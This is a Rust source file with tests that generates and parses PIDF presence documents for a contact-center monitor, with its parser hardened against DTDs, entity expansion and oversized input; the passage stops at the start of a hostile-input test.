//! PIDF (RFC 3863) with the data model (RFC 4479) and RPID activities (RFC 4480): presence documents
//! for every presentity the monitor knows, and a hardened parser for PIDF a vendor's system publishes.

use super::presence::{Activity, BasicStatus, PresenceDocument, Presentity};
use crate::medium::Medium;
use crate::status::{AgentState, QueueStatus};
use quick_xml::events::{BytesDecl, BytesStart, BytesText, Event};
use quick_xml::name::ResolveResult;
use quick_xml::{NsReader, Writer};
use std::borrow::Cow;
use std::collections::HashSet;
use std::io;

/// PIDF namespace.
pub const NS_PIDF: &str = "urn:ietf:params:xml:ns:pidf";
/// Presence data model namespace.
pub const NS_DM: &str = "urn:ietf:params:xml:ns:pidf:data-model";
/// RPID namespace.
pub const NS_RPID: &str = "urn:ietf:params:xml:ns:pidf:rpid";
/// Our extension namespace (medium of a tuple, queue figures); unknown to others, so lax-validated.
pub const NS_FD: &str = "urn:frontdesk:params:xml:ns:pidf-cc";

/// The presence URI of a presentity (`pres:agent-ann@example.com`), the same local parts as its JID;
/// characters a URI cannot carry in an id are percent-encoded.
pub fn entity_uri(p: &Presentity, domain: &str) -> String {
    let mut s = String::from("pres:");
    for b in p.local_part().bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s.push('@');
    s.push_str(domain);
    s
}

/// The presentity an entity URI made by [`entity_uri`] names, whatever its domain; `None` for other URIs.
pub fn presentity_from_entity(uri: &str) -> Option<Presentity> {
    let (local, _domain) = uri.strip_prefix("pres:")?.rsplit_once('@')?;
    let mut bytes = Vec::with_capacity(local.len());
    let mut it = local.bytes();
    while let Some(b) = it.next() {
        if b == b'%' {
            let hex = [it.next()?, it.next()?];
            bytes.push(u8::from_str_radix(std::str::from_utf8(&hex).ok()?, 16).ok()?);
        } else {
            bytes.push(b);
        }
    }
    Presentity::from_local_part(&String::from_utf8(bytes).ok()?)
}

/// The RPID element name of an activity.
pub fn rpid_name(a: Activity) -> &'static str {
    match a {
        Activity::OnThePhone => "on-the-phone",
        Activity::Busy => "busy",
        Activity::Away => "away",
        Activity::Meeting => "meeting",
        Activity::Working => "working",
        Activity::Unknown => "unknown",
    }
}

/// The activity an RPID element name stands for, if it is one we report.
pub fn activity_from_rpid(name: &str) -> Option<Activity> {
    [Activity::OnThePhone, Activity::Busy, Activity::Away, Activity::Meeting, Activity::Working, Activity::Unknown]
        .into_iter()
        .find(|a| rpid_name(*a) == name)
}

/// Replaces characters XML 1.0 cannot carry at all (most C0 controls, U+FFFE/U+FFFF): client notes are
/// free text and must not make the whole document ill-formed.
fn xml_chars(s: &str) -> Cow<'_, str> {
    if s.chars().all(is_xml_char) {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(s.chars().map(|c| if is_xml_char(c) { c } else { '\u{FFFD}' }).collect())
    }
}

fn is_xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
}

/// Hands out `xs:ID` values: NCNames, unique within one document (tuple and person ids share that space).
#[derive(Default)]
struct Ids(HashSet<String>);

impl Ids {
    fn take(&mut self, wanted: &str) -> String {
        let mut base: String = wanted.chars().map(|c| if c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_') { c } else { '_' }).collect();
        if !base.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
            base.insert(0, '_');
        }
        let mut id = base.clone();
        let mut n = 1;
        while !self.0.insert(id.clone()) {
            n += 1;
            id = format!("{base}-{n}");
        }
        id
    }
}

/// Renders a presence document as PIDF that validates against the RFC 3863/4479/4480 schemas. Tuples
/// carry status, our medium and queue figures, contact, note and timestamp; activities go in an RPID
/// `<dm:person>`. `domain` is the right-hand side of the entity URI.
pub fn to_pidf(doc: &PresenceDocument, domain: &str) -> String {
    let mut w = Writer::new_with_indent(Vec::with_capacity(1024), b' ', 1);
    write_presence(&mut w, doc, domain).expect("writing to memory cannot fail");
    String::from_utf8(w.into_inner()).expect("quick-xml writes the UTF-8 it is given")
}

fn text_element(w: &mut Writer<Vec<u8>>, name: &str, text: &str) -> io::Result<()> {
    w.create_element(name).write_text_content(BytesText::new(&xml_chars(text)))?;
    Ok(())
}

/// Queue figures for a tuple of `medium`: the queue's own for a queue, every queue's for the center.
fn figures(doc: &PresenceDocument, medium: Medium) -> impl Iterator<Item = &QueueStatus> {
    let relevant = matches!(doc.entity, Presentity::Queue(_) | Presentity::Center);
    doc.center.iter().filter(move |_| relevant).flat_map(|c| &c.queues).filter(move |q| q.medium == medium)
}

fn write_presence(w: &mut Writer<Vec<u8>>, doc: &PresenceDocument, domain: &str) -> io::Result<()> {
    w.write_event(Event::Decl(BytesDecl::new("1.0", Some("UTF-8"), None)))?;
    let entity = entity_uri(&doc.entity, domain);
    let entity = xml_chars(&entity);
    let ts = doc.timestamp.to_string();
    let mut ids = Ids::default();
    let root = BytesStart::new("presence").with_attributes([
        ("xmlns", NS_PIDF),
        ("xmlns:dm", NS_DM),
        ("xmlns:rpid", NS_RPID),
        ("xmlns:fd", NS_FD),
        ("entity", entity.as_ref()),
    ]);
    w.write_event(Event::Start(root.borrow()))?;
    for t in &doc.tuples {
        let id = ids.take(&t.id);
        w.create_element("tuple").with_attribute(("id", id.as_str())).write_inner_content(|w| {
            let basic = match t.status {
                BasicStatus::Open => "open",
                BasicStatus::Closed => "closed",
            };
            // PIDF orders a tuple as status, extensions, contact, note, timestamp.
            w.create_element("status").write_inner_content(|w| text_element(w, "basic", basic))?;
            if let Some(m) = t.medium {
                text_element(w, "fd:medium", m.as_str())?;
                for q in figures(doc, m) {
                    let mut attrs = vec![
                        ("queue", xml_chars(q.queue.as_str()).into_owned()),
                        ("holding", q.holding.to_string()),
                        ("agents-available", q.agents_available.to_string()),
                        ("agents-staffed", q.agents_staffed.to_string()),
                    ];
                    if let Some(e) = q.estimated_hold_secs {
                        attrs.push(("estimated-hold-secs", e.to_string()));
                    }
                    w.create_element("fd:queue").with_attributes(attrs.iter().map(|(k, v)| (*k, v.as_str()))).write_empty()?;
                }
            }
            if let Some(c) = &t.contact {
                text_element(w, "contact", c)?;
            }
            if let Some(n) = &t.note {
                text_element(w, "note", n)?;
            }
            text_element(w, "timestamp", &ts)
        })?;
    }
    if let Some(n) = &doc.note {
        text_element(w, "note", n)?;
    }
    if !doc.activities.is_empty() {
        let pid = ids.take(&format!("person-{}", doc.entity.local_part()));
        w.create_element("dm:person").with_attribute(("id", pid.as_str())).write_inner_content(|w| {
            let since = doc.agent.as_ref().map(|a| a.since.to_string());
            let mut acts = w.create_element("rpid:activities");
            if let Some(s) = &since {
                acts = acts.with_attribute(("from", s.as_str()));
            }
            acts.write_inner_content(|w| {
                // RFC 4480: `unknown` stands alone; the others may combine.
                let known: Vec<Activity> = doc.activities.iter().copied().filter(|a| *a != Activity::Unknown).collect();
                if known.is_empty() {
                    w.create_element("rpid:unknown").write_empty()?;
                }
                for a in known {
                    w.create_element(format!("rpid:{}", rpid_name(a))).write_empty()?;
                }
                Ok(())
            })?;
            text_element(w, "dm:timestamp", &ts)
        })?;
    }
    w.write_event(Event::End(root.to_end()))?;
    w.get_mut().push(b'\n');
    Ok(())
}

/// Queue figures read from our `<fd:queue>` extension element.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct QueueFigures {
    /// Queue id.
    pub queue: String,
    /// Interactions waiting.
    pub holding: Option<u32>,
    /// Agents ready to take an interaction now.
    pub agents_available: Option<u32>,
    /// Agents logged in for the medium.
    pub agents_staffed: Option<u32>,
    /// Estimated wait for a client joining now, in seconds.
    pub estimated_hold_secs: Option<f64>,
}

/// One tuple read from PIDF.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct PidfTuple {
    /// Tuple id.
    pub id: String,
    /// Basic status; PIDF lets a `<status>` carry only extensions, so it may be absent.
    pub basic: Option<BasicStatus>,
    /// Contact URI.
    pub contact: Option<String>,
    /// Notes, trimmed.
    pub notes: Vec<String>,
    /// Timestamp as written (RFC 3339).
    pub timestamp: Option<String>,
    /// Medium, from our `<fd:medium>` or else from one of our contact URIs (`…;medium=voice`).
    pub medium: Option<Medium>,
    /// Queue figures from our extension.
    pub queues: Vec<QueueFigures>,
}

/// A PIDF document as read.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ParsedPresence {
    /// The `entity` attribute.
    pub entity: String,
    /// Tuples.
    pub tuples: Vec<PidfTuple>,
    /// Document-level notes, trimmed.
    pub notes: Vec<String>,
    /// RPID activities of the person, by element name (`on-the-phone`, `away`, …), including ones we
    /// do not report ourselves.
    pub activities: Vec<String>,
}

impl ParsedPresence {
    /// Our presentity, when the entity is a URI made by [`entity_uri`].
    pub fn presentity(&self) -> Option<Presentity> {
        presentity_from_entity(&self.entity)
    }

    /// The activities that map to our [`Activity`] values, in document order.
    pub fn known_activities(&self) -> Vec<Activity> {
        self.activities.iter().filter_map(|a| activity_from_rpid(a)).collect()
    }
}

/// Limits applied to incoming PIDF.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PidfLimits {
    /// Largest document, bytes.
    pub max_bytes: usize,
    /// Deepest element nesting (the root is depth 1).
    pub max_depth: usize,
    /// Longest attribute value or text content of one element, bytes.
    pub max_text: usize,
    /// Most tuples.
    pub max_tuples: usize,
}

impl Default for PidfLimits {
    fn default() -> Self {
        PidfLimits { max_bytes: 64 * 1024, max_depth: 32, max_text: 4096, max_tuples: 64 }
    }
}

/// Why incoming PIDF was refused; none of them is worth retrying with the same bytes.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PidfError {
    /// Not well-formed XML, not UTF-8, or using an entity that is not predefined.
    #[error("not well-formed XML: {0}")]
    NotXml(String),
    /// A DOCTYPE was present: refused outright, so no entity expansion (billion laughs) and no external
    /// entities (XXE) can happen.
    #[error("DTDs are not allowed in presence documents")]
    Dtd,
    /// The document is over the size limit.
    #[error("document larger than {max} bytes")]
    TooLarge {
        /// The limit.
        max: usize,
    },
    /// Elements nest deeper than the limit.
    #[error("elements nested deeper than {max}")]
    TooDeep {
        /// The limit.
        max: usize,
    },
    /// An attribute value or a text is longer than the limit.
    #[error("{what} longer than {max} bytes")]
    TooLong {
        /// `attribute` or `text`.
        what: &'static str,
        /// The limit.
        max: usize,
    },
    /// More tuples than the limit.
    #[error("more than {max} tuples")]
    TooManyTuples {
        /// The limit.
        max: usize,
    },
    /// The root is not `<presence>` in the PIDF namespace.
    #[error("not a PIDF presence document (root must be <presence> in {NS_PIDF})")]
    NotPidf,
    /// A part PIDF requires is missing.
    #[error("invalid PIDF: missing {0}")]
    Missing(&'static str),
    /// A value is not one PIDF allows.
    #[error("invalid PIDF: {0}")]
    Invalid(String),
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Ns {
    Pidf,
    Dm,
    Rpid,
    Fd,
    Other,
}

fn ns_of(r: &ResolveResult<'_>) -> Ns {
    match r {
        ResolveResult::Bound(n) => match n.as_ref() {
            x if x == NS_PIDF.as_bytes() => Ns::Pidf,
            x if x == NS_DM.as_bytes() => Ns::Dm,
            x if x == NS_RPID.as_bytes() => Ns::Rpid,
            x if x == NS_FD.as_bytes() => Ns::Fd,
            _ => Ns::Other,
        },
        _ => Ns::Other,
    }
}

/// Whether the open elements are exactly `want` (namespace and local name), root first.
fn at(path: &[(Ns, String)], want: &[(Ns, &str)]) -> bool {
    path.len() == want.len() && path.iter().zip(want).all(|((n, l), (wn, wl))| n == wn && l == wl)
}

const TUPLE: [(Ns, &str); 2] = [(Ns::Pidf, "presence"), (Ns::Pidf, "tuple")];

fn check_chars(s: &str) -> Result<(), PidfError> {
    if s.chars().all(is_xml_char) {
        Ok(())
    } else {
        Err(PidfError::NotXml("character not allowed in XML".into()))
    }
}

fn medium_from_contact(contact: &str) -> Option<Medium> {
    let rest = contact.strip_prefix("frontdesk:")?;
    rest.split(';').skip(1).find_map(|p| p.strip_prefix("medium=")).and_then(Medium::parse)
}

/// Unprefixed attributes (PIDF's are unqualified) of an element, values unescaped, within limits.
fn attributes(e: &BytesStart<'_>, limits: &PidfLimits) -> Result<Vec<(String, String)>, PidfError> {
    let mut out = vec![];
    for a in e.attributes() {
        let a = a.map_err(|x| PidfError::NotXml(x.to_string()))?;
        if a.value.len() > limits.max_text {
            return Err(PidfError::TooLong { what: "attribute", max: limits.max_text });
        }
        if a.key.as_namespace_binding().is_some() || a.key.prefix().is_some() {
            continue;
        }
        let v = a.unescape_value().map_err(|x| PidfError::NotXml(x.to_string()))?.into_owned();
        check_chars(&v)?;
        out.push((String::from_utf8_lossy(a.key.as_ref()).into_owned(), v));
    }
    Ok(out)
}

#[derive(Default)]
struct Parser {
    out: ParsedPresence,
    /// Open elements from the root.
    path: Vec<(Ns, String)>,
    /// The tuple being read and whether it had its required `<status>`.
    tuple: Option<(PidfTuple, bool)>,
    /// Text of the innermost element so far.
    text: String,
}

impl Parser {
    fn start(&mut self, ns: Ns, local: String, attrs: Vec<(String, String)>, limits: &PidfLimits) -> Result<(), PidfError> {
        if self.path.len() >= limits.max_depth {
            return Err(PidfError::TooDeep { max: limits.max_depth });
        }
        let attr = |k: &str| attrs.iter().find(|(a, _)| a == k).map(|(_, v)| v.trim().to_string()).filter(|v| !v.is_empty());
        let parent = self.path.last().map(|(n, l)| (*n, l.as_str()));
        if self.path.is_empty() {
            if ns != Ns::Pidf || local != "presence" {
                return Err(PidfError::NotPidf);
            }
            self.out.entity = attr("entity").ok_or(PidfError::Missing("the entity attribute of <presence>"))?;
        } else if at(&self.path, &TUPLE[..1]) && ns == Ns::Pidf && local == "tuple" {
            if self.out.tuples.len() >= limits.max_tuples {
                return Err(PidfError::TooManyTuples { max: limits.max_tuples });
            }
            let id = attr("id").ok_or(PidfError::Missing("the id attribute of <tuple>"))?;
            self.tuple = Some((PidfTuple { id, ..Default::default() }, false));
        } else if at(&self.path, &TUPLE) && ns == Ns::Pidf && local == "status" {
            self.tuple.iter_mut().for_each(|t| t.1 = true);
        } else if at(&self.path, &TUPLE) && ns == Ns::Fd && local == "queue" {
            let num = |k: &str| attr(k).and_then(|v| v.parse::<u32>().ok());
            let figures = QueueFigures {
                queue: attr("queue").unwrap_or_default(),
                holding: num("holding"),
                agents_available: num("agents-available"),
                agents_staffed: num("agents-staffed"),
                estimated_hold_secs: attr("estimated-hold-secs").and_then(|v| v.parse::<f64>().ok()).filter(|v| v.is_finite()),
            };
            self.tuple.iter_mut().for_each(|t| t.0.queues.push(figures.clone()));
        } else if ns == Ns::Rpid && parent == Some((Ns::Rpid, "activities")) && local != "note" {
            self.out.activities.push(local.clone());
        }
        self.text.clear();
        self.path.push((ns, local));
        Ok(())
    }

    fn text(&mut self, piece: &str, limits: &PidfLimits) -> Result<(), PidfError> {
        check_chars(piece)?;
        self.text.push_str(piece);
        if self.text.len() > limits.max_text {
            return Err(PidfError::TooLong { what: "text", max: limits.max_text });
        }
        Ok(())
    }

    fn end(&mut self) -> Result<(), PidfError> {
        let text = std::mem::take(&mut self.text);
        let s = text.trim();
        let in_tuple = |local: &'static str| [(Ns::Pidf, "presence"), (Ns::Pidf, "tuple"), (Ns::Pidf, local)];
        let t = self.tuple.as_mut().map(|t| &mut t.0);
        if at(&self.path, &[(Ns::Pidf, "presence"), (Ns::Pidf, "tuple"), (Ns::Pidf, "status"), (Ns::Pidf, "basic")]) {
            let b = match s {
                "open" => BasicStatus::Open,
                "closed" => BasicStatus::Closed,
                other => return Err(PidfError::Invalid(format!("<basic> must be open or closed, not {other:?}"))),
            };
            t.into_iter().for_each(|t| t.basic = Some(b));
        } else if at(&self.path, &in_tuple("contact")) {
            t.into_iter().for_each(|t| t.contact = Some(s.to_string()));
        } else if at(&self.path, &in_tuple("note")) {
            t.into_iter().for_each(|t| t.notes.push(s.to_string()));
        } else if at(&self.path, &in_tuple("timestamp")) {
            t.into_iter().for_each(|t| t.timestamp = Some(s.to_string()));
        } else if at(&self.path, &[(Ns::Pidf, "presence"), (Ns::Pidf, "tuple"), (Ns::Fd, "medium")]) {
            t.into_iter().for_each(|t| t.medium = Medium::parse(s));
        } else if at(&self.path, &[(Ns::Pidf, "presence"), (Ns::Pidf, "note")]) {
            self.out.notes.push(s.to_string());
        } else if at(&self.path, &TUPLE) {
            let (mut t, had_status) = self.tuple.take().ok_or(PidfError::Missing("<tuple>"))?;
            if !had_status {
                return Err(PidfError::Missing("the <status> of a <tuple>"));
            }
            if t.medium.is_none() {
                t.medium = t.contact.as_deref().and_then(medium_from_contact);
            }
            self.out.tuples.push(t);
        }
        self.path.pop().ok_or_else(|| PidfError::NotXml("unbalanced end tag".into()))?;
        Ok(())
    }
}

/// Parses PIDF from any publisher (any namespace prefixes), refusing DTDs, oversized, over-deep or
/// over-long input, and anything that is not PIDF. Unknown extensions are skipped, as PIDF asks.
pub fn parse_pidf(xml: &[u8], limits: &PidfLimits) -> Result<ParsedPresence, PidfError> {
    if xml.len() > limits.max_bytes {
        return Err(PidfError::TooLarge { max: limits.max_bytes });
    }
    let src = std::str::from_utf8(xml).map_err(|e| PidfError::NotXml(format!("not UTF-8: {e}")))?;
    let mut r = NsReader::from_str(src);
    let mut p = Parser::default();
    let mut seen_root = false;
    loop {
        let (ns, ev) = r.read_resolved_event().map_err(|e| PidfError::NotXml(e.to_string()))?;
        let ns = ns_of(&ns);
        match ev {
            Event::DocType(_) => return Err(PidfError::Dtd),
            Event::Start(ref e) | Event::Empty(ref e) => {
                if p.path.is_empty() && seen_root {
                    return Err(PidfError::NotXml("more than one root element".into()));
                }
                seen_root = true;
                let local = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                let attrs = attributes(e, limits)?;
                p.start(ns, local, attrs, limits)?;
                if matches!(ev, Event::Empty(_)) {
                    p.end()?;
                }
            }
            Event::Text(t) => p.text(&t.xml10_content().map_err(|e| PidfError::NotXml(e.to_string()))?, limits)?,
            Event::CData(t) => p.text(&t.xml10_content().map_err(|e| PidfError::NotXml(e.to_string()))?, limits)?,
            Event::GeneralRef(g) => {
                // Only the five predefined entities and character references: anything else needs a DTD.
                let c = match g.as_ref() {
                    b"amp" => '&',
                    b"lt" => '<',
                    b"gt" => '>',
                    b"quot" => '"',
                    b"apos" => '\'',
                    _ => match g.resolve_char_ref() {
                        Ok(Some(c)) => c,
                        _ => return Err(PidfError::NotXml(format!("undefined entity &{};", String::from_utf8_lossy(&g)))),
                    },
                };
                p.text(c.encode_utf8(&mut [0; 4]), limits)?;
            }
            Event::End(_) => p.end()?,
            Event::Eof => break,
            _ => {}
        }
    }
    if !seen_root {
        return Err(PidfError::NotXml("no root element".into()));
    }
    if !p.path.is_empty() {
        return Err(PidfError::NotXml("truncated document".into()));
    }
    Ok(p.out)
}

/// RPID activities that mean the agent is handling something.
const BUSY_ACTIVITIES: [&str; 4] = ["on-the-phone", "busy", "presentation", "performance"];
/// RPID activities that mean the agent is not taking interactions.
const AWAY_ACTIVITIES: [&str; 13] = [
    "away", "meeting", "appointment", "meal", "breakfast", "dinner", "holiday", "vacation", "sleeping", "travel", "in-transit",
    "permanent-absence", "looking-for-work",
];

/// The agent state a vendor's PIDF publication implies. Activities decide first (busy ones beat away
/// ones): on-the-phone/busy/presentation/performance → busy; away/meeting/appointment/meals/holiday/
/// vacation/sleeping/travel → away; working → after work. Without those, any open tuple → available
/// and nothing open → away: a closed publication keeps the agent logged in, because logging out
/// removes the agent and is the ACD's explicit `AgentLoggedOut`, not something to infer from a blip.
pub fn agent_state_from_pidf(p: &ParsedPresence) -> AgentState {
    let has = |set: &[&str]| p.activities.iter().any(|a| set.contains(&a.as_str()));
    let open = p.tuples.iter().any(|t| t.basic == Some(BasicStatus::Open));
    if has(&BUSY_ACTIVITIES) {
        AgentState::Busy
    } else if has(&AWAY_ACTIVITIES) {
        AgentState::Away
    } else if has(&["working"]) {
        AgentState::AfterWork
    } else if open {
        AgentState::Available
    } else {
        AgentState::Away
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::center_event::CenterEvent;
    use crate::monitor::presence::Tuple;
    use crate::monitor::StatusMonitor;
    use crate::principal::Principal;
    use crate::status::{ClientActivity, ClientStatus};
    use crate::Timestamp;
    use proptest::prelude::*;

    const NOW: Timestamp = Timestamp(1_795_597_200_000);

    fn limits() -> PidfLimits {
        PidfLimits::default()
    }

    fn parse(xml: &str) -> Result<ParsedPresence, PidfError> {
        parse_pidf(xml.as_bytes(), &limits())
    }

    fn feed(m: &mut StatusMonitor, events: impl IntoIterator<Item = CenterEvent>) {
        for e in events {
            m.handle_center_event(NOW, e).unwrap();
        }
    }

    /// A monitor with a queue with one waiting interaction, an agent on the phone, an agent away and
    /// an idle client with a note full of markup.
    fn monitor() -> StatusMonitor {
        let mut m = StatusMonitor::default();
        feed(
            &mut m,
            [
                CenterEvent::QueueConfigured { queue: "support".into(), name: "Support & Co <1>".into(), products: vec![], media: vec![Medium::Chat, Medium::Voice] },
                CenterEvent::AgentLoggedIn { agent: "ann".into(), name: "Ann".into(), skills: vec![], media: vec![Medium::Voice, Medium::Chat] },
                CenterEvent::AgentStateChanged { agent: "ann".into(), state: AgentState::Busy },
                CenterEvent::AgentLoggedIn { agent: "bo".into(), name: "Bo".into(), skills: vec![], media: vec![Medium::Chat] },
                CenterEvent::AgentStateChanged { agent: "bo".into(), state: AgentState::Available },
                CenterEvent::InteractionQueued { interaction: "i1".into(), queue: "support".into(), medium: Medium::Voice, client: None },
            ],
        );
        m.publish_client_status(NOW, "alice".into(), ClientStatus { activity: ClientActivity::Idle, medium: Some(Medium::Chat), note: Some("on the bus & late </note><x>".into()) });
        m
    }

    fn all_kinds() -> Vec<Presentity> {
        vec![
            Presentity::Center,
            Presentity::Queue("support".into()),
            Presentity::Agent("ann".into()),
            Presentity::Agent("bo".into()),
            Presentity::Agent("nobody".into()),
            Presentity::Client("alice".into()),
        ]
    }

    /// Everything a PresenceDocument puts into PIDF comes back out of the parser.
    fn assert_round_trip(doc: &PresenceDocument) {
        let xml = to_pidf(doc, "example.com");
        let back = parse(&xml).unwrap_or_else(|e| panic!("{}: {e}\n{xml}", doc.entity));
        assert_eq!(back.entity, entity_uri(&doc.entity, "example.com"));
        assert_eq!(back.presentity().as_ref(), Some(&doc.entity));
        assert_eq!(back.tuples.len(), doc.tuples.len(), "{xml}");
        for (a, b) in doc.tuples.iter().zip(&back.tuples) {
            assert_eq!(a.id, b.id);
            assert_eq!(Some(a.status), b.basic);
            assert_eq!(a.contact, b.contact);
            assert_eq!(a.medium, b.medium);
            assert_eq!(a.note.iter().cloned().collect::<Vec<_>>(), b.notes);
            assert_eq!(b.timestamp.as_deref(), Some(doc.timestamp.to_string().as_str()));
            let want: Vec<QueueFigures> = a
                .medium
                .map(|m| {
                    figures(doc, m)
                        .map(|q| QueueFigures {
                            queue: q.queue.to_string(),
                            holding: Some(q.holding),
                            agents_available: Some(q.agents_available),
                            agents_staffed: Some(q.agents_staffed),
                            estimated_hold_secs: q.estimated_hold_secs,
                        })
                        .collect()
                })
                .unwrap_or_default();
            assert_eq!(b.queues, want, "{xml}");
        }
        assert_eq!(back.known_activities(), doc.activities);
        assert_eq!(back.notes, doc.note.iter().cloned().collect::<Vec<_>>());
    }

    #[test]
    fn every_presentity_round_trips() {
        let m = monitor();
        for p in all_kinds() {
            assert_round_trip(&m.document(&p));
        }
        let queue = to_pidf(&m.document(&Presentity::Queue("support".into())), "example.com");
        assert!(queue.contains(r#"<fd:queue queue="support" holding="1" agents-available="0" agents-staffed="1""#), "{queue}");
        let center = parse(&to_pidf(&m.document(&Presentity::Center), "example.com")).unwrap();
        let voice = center.tuples.iter().find(|t| t.medium == Some(Medium::Voice)).unwrap();
        assert_eq!(voice.queues[0].holding, Some(1), "the center carries every queue's figures");
    }

    #[test]
    fn text_is_escaped_and_unusable_characters_replaced() {
        let m = monitor();
        let xml = to_pidf(&m.document(&Presentity::Client("alice".into())), "example.com");
        assert!(xml.contains("on the bus &amp; late &lt;/note&gt;&lt;x&gt;"), "{xml}");
        let mut doc = PresenceDocument::closed(Presentity::Client("eve".into()), NOW);
        doc.note = Some("bell\u{7} nul\u{0} \u{FFFF}".into());
        let back = parse(&to_pidf(&doc, "example.com")).unwrap();
        assert_eq!(back.notes, vec!["bell\u{FFFD} nul\u{FFFD} \u{FFFD}"]);
    }

    #[test]
    fn odd_ids_still_give_valid_uris_and_xml_ids() {
        let mut doc = PresenceDocument::closed(Presentity::Agent("ann smith/2@x".into()), NOW);
        doc.activities = vec![Activity::Away];
        doc.tuples.push(Tuple { id: "t0".into(), status: BasicStatus::Open, medium: None, contact: None, note: None });
        doc.tuples.push(Tuple { id: "9 lives".into(), status: BasicStatus::Open, medium: None, contact: None, note: None });
        let xml = to_pidf(&doc, "example.com");
        assert!(xml.contains(r#"entity="pres:agent-ann%20smith%2F2%40x@example.com""#), "{xml}");
        let back = parse(&xml).unwrap();
        assert_eq!(back.presentity(), Some(Presentity::Agent("ann smith/2@x".into())));
        let ids: Vec<&str> = back.tuples.iter().map(|t| t.id.as_str()).collect();
        assert_eq!(ids, ["t0", "t0-2", "_9_lives"], "xs:ID values are NCNames and unique");
        assert!(xml.contains(r#"<dm:person id="person-agent-ann_smith_2_x">"#), "{xml}");
        assert_eq!(presentity_from_entity("sip:ann@acd"), None);
        assert_eq!(presentity_from_entity("pres:agent-%zz@x"), None);
    }

    #[test]
    fn agent_states_survive_pidf() {
        for (state, media) in [
            (AgentState::Available, vec![Medium::Chat]),
            (AgentState::Busy, vec![Medium::Voice]),
            (AgentState::Busy, vec![Medium::Chat]),
            (AgentState::AfterWork, vec![Medium::Voice]),
            (AgentState::Away, vec![Medium::Voice]),
        ] {
            let mut m = StatusMonitor::default();
            feed(
                &mut m,
                [
                    CenterEvent::AgentLoggedIn { agent: "ann".into(), name: "Ann".into(), skills: vec![], media },
                    CenterEvent::AgentStateChanged { agent: "ann".into(), state },
                ],
            );
            let xml = to_pidf(&m.document(&Presentity::Agent("ann".into())), "example.com");
            assert_eq!(agent_state_from_pidf(&parse(&xml).unwrap()), state, "{xml}");
        }
    }

    #[test]
    fn agent_on_the_phone_and_blocked_watchers() {
        let m = monitor();
        let xml = to_pidf(&m.document(&Presentity::Agent("ann".into())), "example.com");
        assert!(xml.contains("<rpid:on-the-phone/>"), "{xml}");
        assert!(xml.contains(r#"<rpid:activities from="2026-11-25T09:00:00.000Z">"#), "{xml}");
        let fetched = m.fetch(&Principal::Client("bob".into()), &Presentity::Client("alice".into())).unwrap();
        let closed = parse(&to_pidf(&fetched, "example.com")).unwrap();
        assert_eq!(closed.tuples[0].basic, Some(BasicStatus::Closed), "politely blocked watchers see closed");
        assert!(closed.notes.is_empty() && closed.activities.is_empty(), "and nothing else");
    }

    #[test]
    fn monitor_takes_agent_state_from_published_pidf() {
        let mut m = monitor();
        let xml = r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:ann@acd"><tuple id="t"><status><basic>open</basic></status></tuple></presence>"#;
        assert_eq!(m.handle_agent_pidf(Timestamp(1_795_597_300_000), "ann".into(), xml.as_bytes()), Ok(AgentState::Available));
        assert_eq!(m.agent(&"ann".into()).unwrap().state, AgentState::Available);
        assert!(m.handle_agent_pidf(Timestamp(1_795_597_300_000), "ann".into(), b"<nope/>").is_err());
        assert_eq!(m.agent(&"ann".into()).unwrap().state, AgentState::Available, "a refused document changes nothing");
    }

    #[test]
    fn vendor_pidf_with_other_prefixes_is_understood() {
        let xml = r#"<?xml version="1.0"?>
<p:presence xmlns:p="urn:ietf:params:xml:ns:pidf" xmlns:x="urn:ietf:params:xml:ns:pidf:data-model"
  xmlns:r="urn:ietf:params:xml:ns:pidf:rpid" xmlns:v="urn:vendor:acd" entity="sip:bo@acd.example">
  <!-- pretty-printed, with a vendor extension -->
  <p:tuple id="a1"><p:status><p:basic>
     open
  </p:basic><v:line state="idle"/></p:status><v:skills>billing</v:skills>
   <p:contact priority="0.8">sip:bo@acd.example</p:contact><p:note xml:lang="en"><![CDATA[at <desk> & ready]]></p:note></p:tuple>
  <p:tuple id="a2"><p:status><v:only-extensions/></p:status><p:contact>frontdesk:agent:bo;medium=email</p:contact></p:tuple>
  <x:person id="p1"><r:activities><r:note>lunch</r:note><r:meal/><r:other>gym</r:other></r:activities></x:person>
</p:presence>"#;
        let p = parse(xml).unwrap();
        assert_eq!(p.entity, "sip:bo@acd.example");
        assert_eq!(p.presentity(), None);
        assert_eq!(p.tuples[0].basic, Some(BasicStatus::Open));
        assert_eq!(p.tuples[0].notes, vec!["at <desk> & ready"]);
        assert_eq!(p.tuples[1].basic, None, "PIDF allows a status with extensions only");
        assert_eq!(p.tuples[1].medium, Some(Medium::Email), "medium from our contact URI");
        assert_eq!(p.activities, vec!["meal", "other"], "an RPID note is not an activity");
        assert_eq!(agent_state_from_pidf(&p), AgentState::Away);
        let start = xml.find("<x:person").unwrap();
        let end = xml.find("</x:person>").unwrap() + "</x:person>".len();
        let open = format!("{}{}", &xml[..start], &xml[end..]);
        assert_eq!(agent_state_from_pidf(&parse(&open).unwrap()), AgentState::Available);
        let closed = open.replace("open\n", "closed\n");
        assert_eq!(agent_state_from_pidf(&parse(&closed).unwrap()), AgentState::Away, "closed keeps the agent logged in");
        let both = xml.replace("<r:meal/>", "<r:meal/><r:on-the-phone/>");
        assert_eq!(agent_state_from_pidf(&parse(&both).unwrap()), AgentState::Busy, "busy beats away");
    }

    fn pidf(body: &str) -> String {
        format!(r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b">{body}</presence>"#)
    }

    #[test]
    fn hostile_input_is_refused_cleanly() {
        let l = limits();
        let laughs = format!(
